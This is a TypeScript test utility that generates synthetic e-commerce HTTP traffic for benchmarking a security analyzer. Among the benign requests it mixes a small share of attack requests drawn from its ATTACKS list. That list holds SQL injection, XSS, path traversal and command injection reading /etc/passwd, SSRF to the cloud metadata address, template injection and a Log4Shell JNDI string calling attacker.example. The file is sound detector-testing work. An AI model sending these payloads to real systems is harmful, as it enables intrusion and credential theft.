/**
 * Realistic mixed HTTP traffic as proto HttpExchange objects (the shape the gRPC loader
 * delivers): mostly benign API, page and asset requests, with a share of attacks, some of which
 * draw error responses. Deterministic for a given seed. For tests, load generators and
 * benchmarks of the analyzer and its engine.
 */
import type { HttpExchange__Output } from '../../proto';
import { buildExchange, type ExchangeSpec } from './exchange-builder';

export interface TrafficOptions {
  /** PRNG seed: the same seed gives the same traffic. @default 1 */
  readonly seed?: number;
  /** Share of exchanges that carry an attack, 0..1. @default 0.03 */
  readonly attackRatio?: number;
  /** Hosts requests are spread over. @default ['api.shop.example', 'www.shop.example'] */
  readonly hosts?: readonly string[];
  /** Sensor id used in exchange ids. @default 'load-sensor' */
  readonly sensorId?: string;
  /** Time of the first request (ms since epoch); each exchange is 1 ms later. @default Date.now() */
  readonly startMs?: number;
}

export interface TrafficGenerator {
  next(): HttpExchange__Output;
  batch(count: number): HttpExchange__Output[];
  /** How many exchanges carried an attack so far. */
  readonly attacks: number;
}

/** mulberry32: small, fast, deterministic. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
  'ShopApp/3.2.1 (Android 14; Pixel 8)',
];
const WORDS = ['red', 'shoes', 'running', 'wireless', 'headphones', "kids' jackets", 'coffee maker', 'usb-c cable', 'garden', 'o\'neil', 'size 42', 'sale', '4k tv', 'rock & roll vinyl'];
const CATEGORIES = ['books', 'electronics', 'garden', 'toys', 'sports', 'home'];

const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ["1' OR '1'='1", 'sql'],
  ['-1 UNION SELECT username,password FROM users--', 'sql'],
  ["1' AND SLEEP(5)#", 'sql'],
  ['<script>alert(document.cookie)</script>', 'xss'],
  ['"><img src=x onerror=alert(1)>', 'xss'],
  ['../../../../etc/passwd', 'traversal'],
  ['; cat /etc/passwd', 'command'],
  ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
  ['{{7*7}}', 'template'],
  ['${jndi:ldap://attacker.example/a}', 'log4shell'],
];

function pick<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)];
}

function hex(random: () => number, length: number): string {
  let out = '';
  while (out.length < length) out += Math.floor(random() * 0x100000000).toString(16).padStart(8, '0');
  return out.slice(0, length);
}

function uuid(random: () => number): string {
  const h = hex(random, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

function jsonList(random: () => number, items: number): string {
  const list = Array.from({ length: items }, (_, i) => ({
    id: 1000 + Math.floor(random() * 9000),
    sku: `SKU-${hex(random, 6).toUpperCase()}`,
    name: `${pick(random, WORDS)} ${pick(random, CATEGORIES)}`,
    price: Math.round(random() * 20000) / 100,
    in_stock: random() > 0.2,
    rank: i,
  }));
  return JSON.stringify({ items: list, page: 1, total: items * 7 });
}

const API_HEADERS: ReadonlyArray<readonly [string, string]> = [
  ['Content-Type', 'application/json; charset=utf-8'],
  ['Cache-Control', 'no-store'],
  ['X-Content-Type-Options', 'nosniff'],
  ['Strict-Transport-Security', 'max-age=31536000; includeSubDomains'],
  ['X-Request-Id', 'req-0'],
];
const PAGE_HEADERS: ReadonlyArray<readonly [string, string]> = [
  ['Content-Type', 'text/html; charset=utf-8'],
  ['Content-Security-Policy', "default-src 'self'; script-src 'self'; frame-ancestors 'none'"],
  ['X-Frame-Options', 'DENY'],
  ['X-Content-Type-Options', 'nosniff'],
  ['Strict-Transport-Security', 'max-age=31536000'],
];

function pageBody(random: () => number): string {
  const items = Array.from({ length: 12 }, () => `<li class="product"><a href="/products/${1000 + Math.floor(random() * 9000)}">${pick(random, WORDS)}</a><span class="price">$${(random() * 200).toFixed(2)}</span></li>`).join('\n');
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Shop</title><link rel="stylesheet" href="/static/app.${hex(random, 8)}.css"></head><body><header><nav><a href="/">Home</a> <a href="/cart">Cart</a></nav></header><main><h1>Featured</h1><ul>${items}</ul></main><script src="/static/app.${hex(random, 8)}.js"></script></body></html>`;
}

export function createTrafficGenerator(options: TrafficOptions = {}): TrafficGenerator {
  const random = prng(options.seed ?? 1);
  const attackRatio = options.attackRatio ?? 0.03;
  if (!(attackRatio >= 0 && attackRatio <= 1)) throw new Error(`attackRatio must be between 0 and 1, got ${attackRatio}`);
  const hosts = options.hosts ?? ['api.shop.example', 'www.shop.example'];
  if (hosts.length === 0) throw new Error('hosts must name at least one host');
  const sensorId = options.sensorId ?? 'load-sensor';
  let clockMs = options.startMs ?? Date.now();
  let counter = 0;
  let attacks = 0;

  const common = (): Array<[string, string]> => [
    ['User-Agent', pick(random, USER_AGENTS)],
    ['Accept', 'application/json, text/plain, */*'],
    ['Accept-Encoding', 'gzip, deflate, br'],
    ['Accept-Language', 'en-US,en;q=0.9'],
    ['Authorization', 'Bearer <redacted>'],
    ['Cookie', `session=redacted:k1:${hex(random, 16)}:32; theme=dark`],
    ['X-Forwarded-For', `198.51.100.${Math.floor(random() * 250) + 1}`],
  ];

  const benign = (): ExchangeSpec => {
    const r = random();
    const id = 1 + Math.floor(random() * 50_000);
    if (r < 0.3) return { target: `/api/v1/products/${id}`, responseHeaders: API_HEADERS, responseBody: jsonList(random, 1) };
    if (r < 0.5) return { target: `/api/v1/products?category=${pick(random, CATEGORIES)}&page=${1 + Math.floor(random() * 20)}&sort=price_asc&limit=20`, responseHeaders: API_HEADERS, responseBody: jsonList(random, 6) };
    if (r < 0.6) return { target: `/api/v1/search?q=${encodeURIComponent(pick(random, WORDS))}&page=1`, responseHeaders: API_HEADERS, responseBody: jsonList(random, 4) };
    if (r < 0.7) {
      const body = JSON.stringify({ items: [{ sku: `SKU-${hex(random, 6)}`, qty: 1 + Math.floor(random() * 3) }], shipping: { name: 'Ann Smith', street: '221B Baker St.', zip: '12345', country: 'GB' }, note: 'Please leave at the door' });
      return { method: 'POST', target: '/api/v1/orders', requestHeaders: [['Content-Type', 'application/json']], requestBody: body, status: 201, responseHeaders: API_HEADERS, responseBody: JSON.stringify({ id: uuid(random), status: 'created' }) };
    }
    if (r < 0.78) return { method: 'PUT', target: `/api/v1/users/${id}/settings`, requestHeaders: [['Content-Type', 'application/json']], requestBody: JSON.stringify({ theme: 'dark', language: 'en', newsletter: random() > 0.5 }), responseHeaders: API_HEADERS, responseBody: '{"ok":true}' };
    if (r < 0.83) return { method: 'DELETE', target: `/api/v1/cart/items/${uuid(random)}`, status: 204, responseHeaders: [['Content-Length', '0']] };
    if (r < 0.88) return { method: 'POST', target: '/login', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `username=user${id}&password=redacted%3Ak1%3A${hex(random, 16)}%3A12&remember=on`, status: 302, responseHeaders: [['Location', '/account'], ['Set-Cookie', 'session=abc; Path=/; Secure; HttpOnly; SameSite=Lax']] };
    if (r < 0.94) return { target: '/', responseHeaders: PAGE_HEADERS, responseBody: pageBody(random) };
    if (r < 0.98) return { target: `/static/app.${hex(random, 8)}.js`, responseHeaders: [['Content-Type', 'application/javascript'], ['Cache-Control', 'public, max-age=31536000, immutable']], responseBody: 'function n(t){return t&&t.__esModule?t:{default:t}}' };
    return { target: '/healthz', responseHeaders: [['Content-Type', 'text/plain']], responseBody: 'ok' };
  };

  const attack = (): ExchangeSpec => {
    const [payload, kind] = pick(random, ATTACKS);
    const r = random();
    const errorBody = kind === 'sql' && random() < 0.5 ? "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''" : undefined;
    const response: Pick<ExchangeSpec, 'status' | 'responseHeaders' | 'responseBody'> = errorBody
      ? { status: 500, responseHeaders: [['Content-Type', 'text/html']], responseBody: `<html><body><h1>Error</h1><p>${errorBody}</p></body></html>` }
      : { status: random() < 0.5 ? 400 : 200, responseHeaders: API_HEADERS, responseBody: '{"error":"invalid input"}' };
    if (r < 0.5) return { target: `/api/v1/products?category=${encodeURIComponent(payload)}&page=1`, ...response };
    if (r < 0.75) return { method: 'POST', target: '/api/v1/reviews', requestHeaders: [['Content-Type', 'application/json']], requestBody: JSON.stringify({ product: 1234, rating: 5, text: payload }), ...response };
    return { method: 'POST', target: '/contact', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `name=ann&message=${encodeURIComponent(payload)}`, ...response };
  };

  const next = (): HttpExchange__Output => {
    counter++;
    clockMs += 1;
    const isAttack = random() < attackRatio;
    if (isAttack) attacks++;
    const spec = isAttack ? attack() : benign();
    return buildExchange({
      ...spec,
      id: `${sensorId}:boot-1:${counter}`,
      host: pick(random, hosts),
      requestHeaders: [...common(), ...(spec.requestHeaders ?? [])],
      tls: true,
      clientIp: `203.0.113.${1 + (counter % 250)}`,
      startMs: clockMs,
    });
  };

  return {
    next,
    batch: (count) => Array.from({ length: count }, next),
    get attacks() {
      return attacks;
    },
  };
}
